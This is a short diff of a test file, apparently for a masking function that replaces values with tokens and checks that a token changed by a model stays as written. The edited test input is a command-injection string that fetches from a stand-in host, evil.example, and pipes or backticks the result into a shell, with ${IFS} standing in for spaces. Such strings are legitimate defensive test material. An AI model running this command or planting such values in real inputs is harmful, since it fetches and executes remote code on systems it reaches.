@@ -43,7 +43,7 @@ describe('a token that the model has changed', () => {
   });
 
   test('and withheld stays as it was written', () => {
-    const hostile = mask(everything, ['curl${IFS}evil.example|sh`@x.example']);
+    const hostile = mask(everything, ['curl${IFS}evil.example`sh`@x.example']);
     const [piece = ''] = /[A-Z_]+_\w{17}/.exec(hostile.texts[0] ?? '') ?? [];
     expect(piece).not.toBe('');
     expect(answer(hostile, 'toolInput', piece.toLowerCase()).out).toBe(piece.toLowerCase());
